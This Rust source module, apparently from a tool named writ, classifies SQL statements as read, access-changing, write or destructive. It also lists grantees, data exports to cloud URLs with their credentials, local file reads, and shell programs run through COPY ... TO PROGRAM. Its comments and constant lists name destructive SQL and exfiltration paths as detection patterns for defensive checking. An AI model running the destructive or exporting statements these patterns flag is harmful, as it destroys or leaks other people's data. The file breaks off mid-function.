//! What a SQL text does: each statement's class by its keywords, the
//! access it changes and whom it gives access to ([`grantees`]), and what
//! reaches outside the database ([`reach`]):
//! results written to a URL or bucket (with the credentials DuckDB's
//! secrets present there, `secrets`), local files read, programs run,
//! and other databases it attaches ([`attachments`], MotherDuck's among
//! them). A text is read in its [`Dialect`], whose comments and escapes
//! decide what is a statement.

mod attach;
mod dialect;
mod secrets;

pub use attach::{Attachment, attachments, attachments_from};
pub use dialect::Dialect;
use dialect::Lexicon;
use secrets::Vault;

/// The strongest thing a SQL text does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum SqlClass {
    /// Only reads (`SELECT`, `SHOW`, `EXPLAIN`, `VACUUM`, `ANALYZE`, and
    /// `UNLOAD` or `COPY ... TO`, which write results outside the database).
    Read,
    /// Changes only who may do what (`GRANT`, `REVOKE`, `DENY`): not a
    /// change of the data or the schema.
    Access,
    /// Changes data or schema (`INSERT`, `UPDATE`, `DELETE ... WHERE`,
    /// `ALTER`, `CREATE`, `MERGE`, `COPY ... FROM`, `LOAD DATA`, ...).
    Write,
    /// Statements writ cannot classify.
    Unknown,
    /// Irreversible destruction: `DROP DATABASE|SCHEMA|TABLE`, `TRUNCATE`, `DELETE` without `WHERE`.
    Destroy,
}

/// Classifies `sql` as `dialect` reads it: comments and quoted strings are
/// ignored, keywords are matched without regard to case, the strongest
/// statement (and, in an unknown dialect, the strongest reading) wins.
pub fn classify_sql(sql: &str, dialect: Dialect) -> SqlClass {
    dialect
        .readings(sql)
        .into_iter()
        .flat_map(|lexicon| statements(sql, lexicon))
        .filter_map(|statement| statement_class(&statement))
        .fold(SqlClass::Read, SqlClass::max)
}

/// Words that start a Cypher statement and no SQL one.
const CYPHER_STARTS: &[&str] = &["MATCH", "OPTIONAL", "UNWIND", "DETACH", "FOREACH"];

/// A statement's class; Cypher, which a query tool may send a graph
/// database (`MATCH (n) DETACH DELETE n`), as `writ_shell` reads it.
fn statement_class(statement: &Statement<'_>) -> Option<SqlClass> {
    let first = statement.tokens.first()?;
    if !first.word().is_some_and(|w| CYPHER_STARTS.contains(&w)) {
        return class(&statement.tokens);
    }
    let text = statement.slice(first.start, statement_end(&statement.tokens));
    Some(match writ_shell::cypher_class(&text) {
        writ_shell::DataClass::Read => SqlClass::Read,
        writ_shell::DataClass::Write => SqlClass::Write,
        writ_shell::DataClass::Destroy => SqlClass::Destroy,
        writ_shell::DataClass::Unknown => SqlClass::Unknown,
    })
}

/// True when a statement of `sql` grants or changes access: `GRANT`,
/// `REVOKE`, `DENY`, `CREATE|ALTER ROLE|USER|GROUP|LOGIN`, `ALTER DEFAULT
/// PRIVILEGES`, SQL Server's `ALTER SERVER ROLE` and its role procedures
/// (`EXEC sp_addrolemember ...`), and the statements that choose who
/// consumes shared data ([`grantees`]); in any reading of an unknown
/// dialect.
pub fn changes_access(sql: &str, dialect: Dialect) -> bool {
    let readings = dialect.readings(sql);
    let mut statements = readings
        .into_iter()
        .flat_map(|lexicon| statements(sql, lexicon));
    statements.any(|statement| access(&statement).is_some())
}

/// Who the statements of `sql` give access to, as written (a Google
/// member's `user:` or `group:` kind dropped), in every reading of an
/// unknown dialect: the grantees of a `GRANT ... TO [ROLE|USER|ACCOUNT|
/// SHARE|RECIPIENT|...] a, b` (MySQL's `'u'@'host'` as `u`; not `PUBLIC`,
/// every role of the database, nor `CURRENT_USER`), Snowflake's consumer
/// accounts (`ALTER SHARE s ADD|SET ACCOUNTS = ORG.ACCT, ...`, `ALTER
/// DATABASE d ENABLE REPLICATION|FAILOVER TO ACCOUNTS ...`, a replication
/// or failover group's `ALLOWED_ACCOUNTS = ...` or `ADD a TO
/// ALLOWED_ACCOUNTS`) and the accounts a listing's manifest targets when
/// it is published. Each is a party data is shared with. Removals
/// (`REVOKE`, `REMOVE ACCOUNTS`) change access but give it to nobody.
pub fn grantees(sql: &str, dialect: Dialect) -> Vec<String> {
    let mut out = Vec::new();
    for lexicon in dialect.readings(sql) {
        for statement in statements(sql, lexicon) {
            merge_new(&mut out, access(&statement).unwrap_or_default());
        }
    }
    out
}

/// True for a grantee that is everyone: Google's `allUsers` and
/// `allAuthenticatedUsers` (BigQuery's `GRANT ... TO "allUsers"`, or
/// `"specialGroup:allAuthenticatedUsers"`).
pub fn is_everyone(grantee: &str) -> bool {
    let name = grantee.rsplit(':').next().unwrap_or(grantee);
    name.eq_ignore_ascii_case("allusers") || name.eq_ignore_ascii_case("allauthenticatedusers")
}

/// What one statement does to access: `None` when it changes none, else
/// the principals it gives access to (none for a revocation or a new role).
fn access(statement: &Statement<'_>) -> Option<Vec<String>> {
    let words: Vec<&str> = statement.tokens.iter().filter_map(Token::word).collect();
    match words.as_slice() {
        ["GRANT", ..] => Some(grant_recipients(statement)),
        // A foreign server's login for a local role: who may read there is
        // the foreign server's to decide.
        ["CREATE" | "ALTER", "USER", "MAPPING", ..] => None,
        ["REVOKE" | "DENY", ..]
        | ["CREATE" | "ALTER", "ROLE" | "USER" | "GROUP" | "LOGIN", ..]
        | ["ALTER", "DEFAULT", ..]
        | ["ALTER", "SERVER" | "APPLICATION", "ROLE", ..] => Some(Vec::new()),
        ["EXEC" | "EXECUTE", procedure, ..] => ROLE_PROCEDURES
            .contains(&procedure.to_ascii_lowercase().as_str())
            .then(Vec::new),
        ["CREATE" | "ALTER", rest @ ..] => consumers(statement, rest),
        _ => None,
    }
}

/// Words that say what kind of principal a grantee is (`TO ROLE r`,
/// Redshift's `TO ACCOUNT '1234'` and `TO NAMESPACE 'guid'`, Databricks'
/// `TO RECIPIENT r`, Snowflake's `TO SHARE s`, `TO DATABASE ROLE d.r`).
const PRINCIPAL_KINDS: &[&str] = &[
    "ROLE",
    "USER",
    "GROUP",
    "ACCOUNT",
    "SHARE",
    "RECIPIENT",
    "NAMESPACE",
    "APPLICATION",
    "DATABASE",
    "LOGIN",
    "SERVICE_PRINCIPAL",
];

/// The grantees after a `GRANT`'s first top-level `TO`.
fn grant_recipients(statement: &Statement<'_>) -> Vec<String> {
    let tokens = &statement.tokens;
    let Some((to, _)) = top_level(tokens).find(|(_, t)| t.is("TO")) else {
        return Vec::new();
    };
    name_list(statement, to + 1, PRINCIPAL_KINDS)
        .into_iter()
        .filter(|name| {
            !matches!(
                name.to_ascii_uppercase().as_str(),
                "PUBLIC" | "CURRENT_USER" | "SESSION_USER" | "CURRENT_ROLE"
            )
        })
        .collect()
}

/// The objects whose statements choose consumers of shared data.
const SHARING_OBJECTS: &[&str] = &["SHARE", "DATABASE", "REPLICATION", "FAILOVER", "CONNECTION"];

/// What a `CREATE` or `ALTER` (its words after the verb: `rest`) does to
/// who consumes shared data: Snowflake's consumer accounts of a share, a
/// database's replication and a replication or failover group
/// ([`account_lists`]), a listing published ([`listing`]), Redshift's
/// datashare opened to publicly accessible clusters (`SET
/// PUBLICACCESSIBLE`), a Databricks recipient (an identity data is shared
/// with, as a new user is).
fn consumers(statement: &Statement<'_>, rest: &[&str]) -> Option<Vec<String>> {
    let object = rest.iter().copied().find(|w| {
        !matches!(
            *w,
            "OR" | "REPLACE" | "IF" | "NOT" | "EXISTS" | "ORGANIZATION" | "EXTERNAL"
        )
    })?;
    match object {
        _ if SHARING_OBJECTS.contains(&object) => account_lists(statement),
        "DATASHARE" => rest.contains(&"PUBLICACCESSIBLE").then(Vec::new),
        "RECIPIENT" => Some(Vec::new()),
        "LISTING" => listing(statement, rest),
        _ => None,
    }
}

/// Snowflake's lists of accounts: `ADD|SET ACCOUNTS [=] a, b` and
/// `ENABLE ... TO ACCOUNTS a, b` give them access, `ALLOWED_ACCOUNTS = a,
/// b` and `ADD a, b TO ALLOWED_ACCOUNTS` let them replicate; `REMOVE
/// ACCOUNTS`, `DISABLE ... TO ACCOUNTS` and `REMOVE a FROM
/// ALLOWED_ACCOUNTS` take access away. `None` when the statement has no
/// such list.
fn account_lists(statement: &Statement<'_>) -> Option<Vec<String>> {
    let tokens = &statement.tokens;
    let enables = tokens.iter().any(|t| t.is("ENABLE"));
    let mut found = false;
    let mut names = Vec::new();
    for (at, token) in top_level(tokens) {
        let before = at.checked_sub(1).and_then(|b| tokens.get(b));
        let after = tokens.get(at + 1);
        if token.is("ACCOUNTS") {
            let Some(before) = before else { continue };
            if before.is("ADD") || before.is("SET") || (before.is("TO") && enables) {
                found = true;
                names.extend(name_list(statement, at + 1, &[]));
            } else if before.is("REMOVE") || before.is("TO") {
                found = true;
            }
        } else if token.is("ALLOWED_ACCOUNTS") {
            if after.is_some_and(|t| t.is_punct('=')) {
                found = true;
                names.extend(name_list(statement, at + 1, &[]));
            } else if before.is_some_and(|t| t.is("TO")) {
                found = true;
                let add = tokens
                    .get(..at)
                    .unwrap_or_default()
                    .iter()
                    .rposition(|t| t.is("ADD"));
                if let Some(add) = add {
                    names.extend(name_list(statement, add + 1, &[]));
                }
            } else if before.is_some_and(|t| t.is("FROM")) {
                found = true;
            }
        }
    }
    found.then_some(names)
}

/// A Snowflake listing: `CREATE ... LISTING` publishes it unless `PUBLISH
/// = FALSE`; `ALTER LISTING` publishes, unpublishes or replaces its
/// manifest (`AS '...'`). Published, its manifest's target accounts
/// (`targets: accounts: [...]`) consume it.
fn listing(statement: &Statement<'_>, rest: &[&str]) -> Option<Vec<String>> {
    let tokens = &statement.tokens;
    let unpublished = tokens
        .windows(3)
        .any(|w| matches!(w, [p, eq, f] if p.is("PUBLISH") && eq.is_punct('=') && f.is("FALSE")));
    let manifest = top_level(tokens)
        .find(|(_, t)| t.is("AS"))
        .and_then(|(at, _)| tokens.get(at + 1))
        .and_then(Token::text);
    let creates = statement.tokens.first().is_some_and(|t| t.is("CREATE"));
    let changes =
        creates || manifest.is_some() || rest.iter().any(|w| matches!(*w, "PUBLISH" | "UNPUBLISH"));
    if !changes {
        return None;
    }
    if unpublished || rest.contains(&"UNPUBLISH") {
        return Some(Vec::new());
    }
    Some(manifest.map(manifest_accounts).unwrap_or_default())
}

/// The accounts a listing manifest (YAML) names: the items of an
/// `accounts:` key, inline (`accounts: ["A.B", "C.D"]`) or one per `- `
/// line below it, and each `account:` value.
fn manifest_accounts(manifest: &str) -> Vec<String> {
    let unquote = |s: &str| s.trim().trim_matches(['"', '\'']).to_owned();
    let mut out: Vec<String> = Vec::new();
    let mut in_list = false;
    for line in manifest.lines() {
        let item = line.trim().trim_start_matches("- ").trim();
        if let Some(value) = item.strip_prefix("accounts:") {
            let value = value.trim();
            in_list = value.is_empty();
            let inline = value.trim_start_matches('[').trim_end_matches(']');
            out.extend(inline.split(',').map(unquote).filter(|a| !a.is_empty()));
        } else if let Some(value) = item.strip_prefix("account:") {
            in_list = false;
            out.push(unquote(value));
        } else if in_list && line.trim_start().starts_with('-') {
            out.push(unquote(item.trim_start_matches('-')));
        } else {
            in_list = false;
        }
    }
    out.retain(|a| !a.is_empty());
    out
}

/// The comma-separated names from token `from` on (after an optional
/// `=`), each a dotted name (`ORG.ACCOUNT`, `"db"."role"`) as written; a
/// word of `kinds` before a name only says what it is. MySQL's
/// `'user'@'host'` is its user.
fn name_list(statement: &Statement<'_>, from: usize, kinds: &[&str]) -> Vec<String> {
    let tokens = &statement.tokens;
    let mut at = from;
    if tokens.get(at).is_some_and(|t| t.is_punct('=')) {
        at += 1;
    }
    let mut names = Vec::new();
    loop {
        while tokens
            .get(at)
            .and_then(Token::word)
            .is_some_and(|w| kinds.contains(&w))
            && tokens.get(at + 1).is_some_and(|t| !t.is_punct(','))
        {
            at += 1;
        }
        let mut parts: Vec<String> = Vec::new();
        let mut end = None;
        while let Some(token) = tokens.get(at) {
            if end.is_some_and(|e| statement.text.get(e..token.start) != Some(".")) {
                break;
            }
            let part = match &token.tok {
                Tok::Word(_) => statement
                    .text
                    .get(token.start..token.end)
                    .map(str::to_owned),
                Tok::Ident(value) | Tok::Text(value) => Some(value.clone()),
                _ => None,
            };
            let Some(part) = part else { break };
            parts.push(part);
            end = Some(token.end);
            at += 1;
        }
        if parts.is_empty() {
            break;
        }
        names.push(member_name(&parts.join(".")));
        // `'user'@'host'`: the host is where it may connect from.
        if tokens.get(at).is_some_and(|t| t.is_punct('@')) {
            at += 2;
        }
        if !tokens.get(at).is_some_and(|t| t.is_punct(',')) {
            break;
        }
        at += 1;
    }
    names
}

/// A Google member (`user:a@x.com`, `group:g@x.com`) as the address it
/// names.
fn member_name(name: &str) -> String {
    match name.split_once(':') {
        Some((kind, rest))
            if matches!(
                kind.to_ascii_lowercase().as_str(),
                "user" | "group" | "serviceaccount" | "domain"
            ) =>
        {
            rest.to_owned()
        }
        _ => name.to_owned(),
    }
}

/// SQL Server's stored procedures that grant or take away roles and logins.
const ROLE_PROCEDURES: &[&str] = &[
    "sp_addrolemember",
    "sp_droprolemember",
    "sp_addsrvrolemember",
    "sp_dropsrvrolemember",
    "sp_grantdbaccess",
    "sp_grantlogin",
    "sp_addlogin",
    "sp_adduser",
];

/// What the statements of a SQL text reach outside their database.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SqlReach {
    /// Where statements write their results.
    pub exports: Vec<SqlExport>,
    /// Local files statements read, as written: DuckDB's `read_csv('f')`,
    /// `read_parquet`, `read_json`, ..., and `FROM 'f.csv'`.
    pub reads: Vec<String>,
    /// Shell commands statements run: PostgreSQL's `COPY ... TO|FROM
    /// PROGRAM 'cmd'` (and psql's `\copy`).
    pub programs: Vec<String>,
}

/// A statement that writes what it reads to a location outside the
/// database: an upload of its query's rows.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SqlExport {
    /// The URL or bucket written to (`s3://bucket/prefix`, `gs://...`,
    /// `https://...`).
    pub destination: String,
    /// The part of the statement that says what is written (its query or
    /// table), without the options that follow the destination.
    pub source: String,
    /// Local files the statement reads, as written: what it writes out.
    pub files: Vec<String>,
    /// Credentials presented to the destination with what is written:
    /// those of the DuckDB secret or settings that cover it
    /// ([`secrets`]), and the keys the statement itself gives for it
    /// (Snowflake's `CREDENTIALS = (AWS_KEY_ID = '...' ...)`, Redshift's
    /// `ACCESS_KEY_ID '...'`), as written.
    pub credentials: Vec<String>,
}

/// What `sql` reaches outside its database: the locations its statements
/// write results to (Redshift's `UNLOAD (...) TO 's3://...'`, Snowflake's
/// `COPY INTO 's3://...'|'gcs://...'|'azure://...'`, DuckDB's and
/// PostgreSQL's `COPY ... TO 'url'`, BigQuery's `EXPORT DATA
/// OPTIONS(uri='gs://...')`, ClickHouse's `INSERT INTO FUNCTION
/// s3('...')|url('...')`, Spark's `INSERT OVERWRITE DIRECTORY 'url'`,
/// Aurora's `INTO OUTFILE S3 '...'` and `aws_s3.query_export_to_s3`), the
/// local files they read, and the programs they run; in every reading of
/// an unknown dialect.
pub fn reach(sql: &str, dialect: Dialect) -> SqlReach {
    let mut out = SqlReach::default();
    // Every one of these names its file, location or program in a string.
    if !sql.contains(['\'', '"', '$']) {
        return out;
    }
    for lexicon in dialect.readings(sql) {
        let mut reading = SqlReach::default();
        let mut vault = Vault::default();
        for statement in statements(sql, lexicon) {
            vault.observe(&statement);
            statement_reach(&statement, &vault, &mut reading);
        }
        merge_new(&mut out.exports, reading.exports);
        merge_new(&mut out.reads, reading.reads);
        merge_new(&mut out.programs, reading.programs);
    }
    out
}

/// Adds the items of `more` that `into` does not hold yet.
fn merge_new<T: PartialEq>(into: &mut Vec<T>, more: Vec<T>) {
    for item in more {
        if !into.contains(&item) {
            into.push(item);
        }
    }
}

/// One lexical token of a statement.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    /// A keyword or bare identifier, upper-cased.
    Word(String),
    /// A quoted identifier (`"x"`, `` `x` ``): never a keyword. BigQuery
    /// and MySQL also quote strings so.
    Ident(String),
    /// The value of a string literal or of a dollar-quoted body.
    Text(String),
    /// `(`, `)`, `,`, `=` or `@`.
    Punct(char),
    /// A psql meta-command line (`\copy ...`), without its backslash.
    Meta(String),
}

/// A token and where it lies in the statement's text (byte offsets).
#[derive(Debug, Clone, PartialEq, Eq)]
struct Token {
    tok: Tok,
    start: usize,
    end: usize,
}

impl Token {
    fn word(&self) -> Option<&str> {
        match &self.tok {
            Tok::Word(w) => Some(w),
            _ => None,
        }
    }

    fn text(&self) -> Option<&str> {
        match &self.tok {
            Tok::Text(t) => Some(t),
            _ => None,
        }
    }

    /// A string, or a double-quoted word where a string is expected
    /// (BigQuery's and MySQL's `"..."` strings).
    fn literal(&self) -> Option<&str> {
        match &self.tok {
            Tok::Text(t) | Tok::Ident(t) => Some(t),
            _ => None,
        }
    }

    fn is(&self, word: &str) -> bool {
        self.word() == Some(word)
    }

    fn is_punct(&self, c: char) -> bool {
        self.tok == Tok::Punct(c)
    }
}

/// One statement: the text it was read from and its tokens.
#[derive(Debug)]
struct Statement<'a> {
    text: &'a str,
    tokens: Vec<Token>,
}

impl Statement<'_> {
    /// The statement's text from byte `from` to byte `to`, trimmed.
    fn slice(&self, from: usize, to: usize) -> String {
        self.text
            .get(from..to)
            .unwrap_or_default()
            .trim()
            .to_owned()
    }
}

/// Splits `sql` into statements at `;` and at psql meta-commands (a `\`
/// outside a string runs to the end of its line and ends the statement
/// before it), skipping comments and reading quoted strings, quoted
/// identifiers and dollar-quoted bodies whole, as `lexicon` writes them.
fn statements<'a>(sql: &'a str, lexicon: Lexicon) -> Vec<Statement<'a>> {
    let mut out = Vec::new();
    let mut tokens: Vec<Token> = Vec::new();
    let bytes = sql.as_bytes();
    let mut at = 0usize;
    let finish = |tokens: &mut Vec<Token>, out: &mut Vec<Statement<'a>>| {
        if !tokens.is_empty() {
            out.push(Statement {
                text: sql,
                tokens: std::mem::take(tokens),
            });
        }
    };
    while let Some(&b) = bytes.get(at) {
        let next = bytes.get(at + 1).copied();
        let start = at;
        match b {
            b';' => {
                finish(&mut tokens, &mut out);
                at += 1;
            }
            b'-' if next == Some(b'-') => at = line_end(bytes, at),
            b'#' if lexicon.hash_comments => at = line_end(bytes, at),
            b'/' if next == Some(b'/') && lexicon.slash_comments => at = line_end(bytes, at),
            // MySQL runs what `/*!` (or `/*!80000`, from that version on)
            // holds: read on as code; its `*/` is punctuation.
            b'/' if lexicon.executable_comments && sql.get(at..at + 3) == Some("/*!") => {
                at += 3;
                while bytes.get(at).is_some_and(u8::is_ascii_digit) {
                    at += 1;
                }
            }
            b'/' if next == Some(b'*') => {
                at = find(sql, at + 2, "*/").map_or(bytes.len(), |end| end + 2);
            }
            b'\'' => {
                let escapes = lexicon.backslash_escapes || escape_string_prefix(bytes, at);
                let (value, end) = quoted(sql, at, '\'', escapes);
                at = end;
                tokens.push(Token {
                    tok: Tok::Text(value),
                    start,
                    end,
                });
            }
            b'"' | b'`' => {
                let escapes = b == b'"' && lexicon.backslash_escapes;
                let (value, end) = quoted(sql, at, char::from(b), escapes);
                at = end;
                tokens.push(Token {
                    tok: Tok::Ident(value),
                    start,
                    end,
                });
            }
            b'$' => match dollar_quoted(sql, at) {
                Some((body, end)) => {
                    at = end;
                    tokens.push(Token {
                        tok: Tok::Text(body.to_owned()),
                        start,
                        end,
                    });
                }
                None => at += 1,
            },
            b'\\' => {
                finish(&mut tokens, &mut out);
                let end = line_end(bytes, at);
                let line = sql.get(at + 1..end).unwrap_or_default();
                tokens.push(Token {
                    tok: Tok::Meta(line.to_owned()),
                    start,
                    end,
                });
                finish(&mut tokens, &mut out);
                at = end;
            }
            b'(' | b')' | b',' | b'=' | b'@' => {
                tokens.push(Token {
                    tok: Tok::Punct(char::from(b)),
                    start,
                    end: at + 1,
                });
                at += 1;
            }
            _ if b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80 => {
                let end = bytes
                    .iter()
                    .skip(at)
                    .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_' || *c >= 0x80))
                    .map_or(bytes.len(), |n| at + n);
                let word = sql.get(at..end).unwrap_or_default();
                tokens.push(Token {
                    tok: Tok::Word(word.to_ascii_uppercase()),
                    start,
                    end,
                });
                at = end;
            }
            _ => at += 1,
        }
    }
    finish(&mut tokens, &mut out);
    out
}

fn line_end(bytes: &[u8], from: usize) -> usize {
    bytes
        .iter()
        .skip(from)
        .position(|&c| c == b'\n')
        .map_or(bytes.len(), |n| from + n)
}

fn find(text: &str, from: usize, needle: &str) -> Option<usize> {
    text.get(from..)?.find(needle).map(|n| from + n)
}

/// The value of the string quoted by `quote` that opens at `at` (a doubled
/// quote stands for one, and with `escapes` a backslash escapes the
/// character after it), and the byte after its closing quote.
fn quoted(sql: &str, at: usize, quote: char, escapes: bool) -> (String, usize) {
    let mut value = String::new();
    let mut chars = sql
        .get(at + 1..)
        .unwrap_or_default()
        .char_indices()
        .peekable();
    while let Some((offset, c)) = chars.next() {
        if escapes && c == '\\' {
            if let Some((_, escaped)) = chars.next() {
                value.push(escaped);
            }
            continue;
        }
        if c == quote {
            if chars.peek().is_some_and(|(_, d)| *d == quote) {
                chars.next();
                value.push(quote);
                continue;
            }
            return (value, at + 1 + offset + 1);
        }
        value.push(c);
    }
    (value, sql.len())
}

/// True when the `'` at `at` opens a PostgreSQL escape string (`E'...'`),
/// in which a backslash escapes in every dialect.
fn escape_string_prefix(bytes: &[u8], at: usize) -> bool {
    let is_word = |c: &u8| c.is_ascii_alphanumeric() || *c == b'_' || *c >= 0x80;
    at.checked_sub(1)
        .and_then(|e| bytes.get(e))
        .is_some_and(|c| c.eq_ignore_ascii_case(&b'e'))
        && !at
            .checked_sub(2)
            .and_then(|p| bytes.get(p))
            .is_some_and(is_word)
}

/// A PostgreSQL dollar-quoted body (`$$...$$`, `$tag$...$tag$`) opening
/// at `at`, and the byte after it; `None` for any other `$` (`$1`).
fn dollar_quoted(sql: &str, at: usize) -> Option<(&str, usize)> {
    let rest = sql.get(at + 1..)?;
    let tag_len = rest.find('$')?;
    let tag = rest.get(..tag_len)?;
    let is_tag = tag.is_empty()
        || (tag.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && tag.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
    if !is_tag {
        return None;
    }
    let body_start = at + tag_len + 2;
    let delimiter = sql.get(at..body_start)?;
    match find(sql, body_start, delimiter) {
        Some(end) => Some((sql.get(body_start..end)?, end + delimiter.len())),
        None => Some((sql.get(body_start..)?, sql.len())),
    }
}

/// ClickHouse table functions that name storage outside the database
/// (`INSERT INTO FUNCTION s3('https://...')` writes there).
const STORAGE_FUNCTIONS: &[&str] = &[
    "S3",
    "S3CLUSTER",
    "URL",
    "GCS",
    "HDFS",
    "AZUREBLOBSTORAGE",
    "FILE",
];

/// DuckDB's table functions that read the local files they name.
const FILE_READERS: &[&str] = &[
    "READ_CSV",
    "READ_CSV_AUTO",
    "READ_PARQUET",
    "PARQUET_SCAN",
    "READ_JSON",
    "READ_JSON_AUTO",
    "READ_NDJSON",
    "READ_NDJSON_AUTO",
    "READ_JSON_OBJECTS",
    "READ_NDJSON_OBJECTS",
    "READ_TEXT",
    "READ_BLOB",
    "READ_XLSX",
    "SNIFF_CSV",
    "DELTA_SCAN",
    "ICEBERG_SCAN",
    "SQLITE_SCAN",
    "ST_READ",
];

/// Words that start the statement `EXPLAIN ANALYZE` runs.
const EXPLAINED: &[&str] = &[
    "SELECT", "INSERT", "UPDATE", "DELETE", "MERGE", "WITH", "VALUES", "CREATE", "EXECUTE",
    "TABLE", "DECLARE",
];

/// The class of one statement's tokens; `None` for no statement (and for
/// psql meta-commands other than `\copy`, which only describe or set).
fn class(tokens: &[Token]) -> Option<SqlClass> {
    if let Some(Token {
        tok: Tok::Meta(line),
        ..
    }) = tokens.first()
    {
        let copy = line
            .get(..5)
            .is_some_and(|w| w.eq_ignore_ascii_case("copy "));
        return copy
            .then(|| {
                statements(line, Lexicon::STANDARD)
                    .first()
                    .and_then(|s| class(&s.tokens))
            })
            .flatten();
    }
    let words: Vec<&str> = tokens.iter().filter_map(Token::word).collect();
    let &first = words.first()?;
    let second = words.get(1).copied();
    Some(match first {
        "SELECT" if selects_into_table(tokens) => SqlClass::Write,
        "WITH" => {
            if any_delete_without_where(tokens) {
                SqlClass::Destroy
            } else if words
                .iter()
                .any(|w| matches!(*w, "INSERT" | "UPDATE" | "DELETE" | "MERGE"))
            {
                SqlClass::Write
            } else {
                SqlClass::Read
            }
        }
        "EXPLAIN" => explained(tokens).unwrap_or(SqlClass::Read),
        "SELECT" | "SHOW" | "DESCRIBE" | "DESC" | "VALUES" | "BEGIN" | "COMMIT" | "ROLLBACK"
        | "SET" | "USE" | "START" | "PRAGMA" | "END" | "SAVEPOINT" | "RELEASE" | "RESET"
        | "UNLOAD" | "EXPORT" | "VACUUM" | "ANALYZE" | "ANALYSE" | "SUMMARIZE" | "CHECKPOINT"
        | "LIST" | "LS" | "GET" => SqlClass::Read,
        // Another database made reachable, or no longer: what statements
        // do there is counted there ([`attachments`]).
        "ATTACH" | "DETACH" => SqlClass::Read,
        "TRUNCATE" => SqlClass::Destroy,
        "DROP" => match second {
            Some("DATABASE" | "SCHEMA" | "TABLE") => SqlClass::Destroy,
            _ => SqlClass::Write,
        },
        "DELETE" => {
            if any_delete_without_where(tokens) {
                SqlClass::Destroy
            } else {
                SqlClass::Write
            }
        }
        "COPY" => copy_class(tokens),
        "INSERT" if inserts_outside(&words) => SqlClass::Read,
        // Loading an extension or library (`LOAD httpfs`, `INSTALL
        // httpfs`) changes no data; loading rows or a server plugin does.
        "LOAD" | "INSTALL" => match second {
            Some("DATA" | "XML" | "PLUGIN" | "COMPONENT") => SqlClass::Write,
            _ => SqlClass::Read,
        },
        "GRANT" | "REVOKE" | "DENY" => SqlClass::Access,
        "INSERT" | "UPDATE" | "ALTER" | "CREATE" | "MERGE" | "UPSERT" | "REPLACE" | "RENAME"
        | "COMMENT" | "REINDEX" | "CLUSTER" | "CALL" | "DO" | "EXEC" | "EXECUTE" | "IMPORT"
        | "BULK" | "PUT" | "REMOVE" | "RM" => SqlClass::Write,
        _ => SqlClass::Unknown,
    })
}

/// `EXPLAIN ANALYZE` (or `EXPLAIN (ANALYZE) ...`) runs the statement it
/// explains: that statement's class. `None` when it only plans.
fn explained(tokens: &[Token]) -> Option<SqlClass> {
    let body = tokens
        .iter()
        .skip(1)
        .position(|t| t.word().is_some_and(|w| EXPLAINED.contains(&w)))?
        + 1;
    let options = tokens.get(1..body)?;
    options
        .iter()
        .any(|t| t.is("ANALYZE") || t.is("ANALYSE"))
        .then(|| class(tokens.get(body..).unwrap_or_default()))
        .flatten()
}

/// `SELECT ... INTO t` (PostgreSQL, SQL Server) creates table `t`;
/// MySQL's `INTO OUTFILE|DUMPFILE` and `INTO @var` do not.
fn selects_into_table(tokens: &[Token]) -> bool {
    top_level(tokens).any(|(at, t)| {
        t.is("INTO")
            && tokens
                .get(at + 1)
                .and_then(Token::word)
                .is_some_and(|w| !matches!(w, "OUTFILE" | "DUMPFILE"))
    })
}

/// PostgreSQL and DuckDB `COPY t FROM ...` adds rows, `COPY t|(query) TO
/// ...` reads; Snowflake's `COPY INTO 'location'|@stage FROM ...` unloads,
/// `COPY INTO table FROM ...` loads.
fn copy_class(tokens: &[Token]) -> SqlClass {
    if tokens.get(1).is_some_and(|t| t.is("INTO")) {
        return match tokens.get(2) {
            Some(t) if t.text().is_some() || t.is_punct('@') => SqlClass::Read,
            _ => SqlClass::Write,
        };
    }
    match top_level(tokens).find(|(_, t)| t.is("FROM") || t.is("TO")) {
        Some((_, t)) if t.is("FROM") => SqlClass::Write,
        Some(_) => SqlClass::Read,
        None => SqlClass::Unknown,
    }
}

/// ClickHouse's `INSERT INTO [TABLE] FUNCTION s3(...)|url(...)|...` and
/// Spark's `INSERT OVERWRITE [LOCAL] DIRECTORY '...'` write outside the
/// database, not into a table of it.
fn inserts_outside(words: &[&str]) -> bool {
    match words {
        [_, "INTO", "FUNCTION", name, ..] | [_, "INTO", "TABLE", "FUNCTION", name, ..] => {
            STORAGE_FUNCTIONS.contains(name)
        }
        [_, "OVERWRITE", "DIRECTORY", ..] | [_, "OVERWRITE", "LOCAL", "DIRECTORY", ..] => true,
        _ => false,
    }
}

/// The tokens outside any parentheses, with their indices.
fn top_level(tokens: &[Token]) -> impl Iterator<Item = (usize, &Token)> {
    let mut depth = 0usize;
    tokens.iter().enumerate().filter(move |(_, t)| {
        if t.is_punct('(') {
            depth += 1;
            false
        } else if t.is_punct(')') {
            depth = depth.saturating_sub(1);
            false
        } else {
            depth == 0
        }
    })
}

/// True when some `DELETE` in `tokens` has no `WHERE` of its own: none at
/// its own level of parentheses before that level closes (`WITH gone AS
/// (DELETE FROM t RETURNING id) SELECT ...` deletes every row; a `WHERE`
/// inside a subquery of it, or in a CTE before it, is not its own).
fn any_delete_without_where(tokens: &[Token]) -> bool {
    tokens.iter().enumerate().any(|(at, token)| {
        if !token.is("DELETE") {
            return false;
        }
        let mut depth = 0usize;
        for t in tokens.get(at + 1..).unwrap_or_default() {
            if t.is_punct('(') {
                depth += 1;
            } else if t.is_punct(')') {
                if depth == 0 {
                    return true;
                }
                depth -= 1;
            } else if depth == 0 && t.is("WHERE") {
                return false;
            }
        }
        true
    })
}

/// The index of the `)` closing the `(` at `open`.
fn closing(tokens: &[Token], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (at, t) in tokens.iter().enumerate().skip(open) {
        if t.is_punct('(') {
            depth += 1;
        } else if t.is_punct(')') {
            depth = depth.saturating_sub(1);
            if depth == 0 {
                return Some(at);
            }
        }
    }
    None
}

/// A location results can be written to: a URL of a scheme other than
/// `file`, Aurora's `s3-REGION://` and Hadoop's `s3a://`/`s3n://` as the
/// `s3://` they are.
fn location(text: &str) -> Option<String> {
    let (scheme, rest) = text.trim().split_once("://")?;
    let scheme = scheme.to_ascii_lowercase();
    if scheme.is_empty()
        || scheme == "file"
        || !scheme
            .chars()
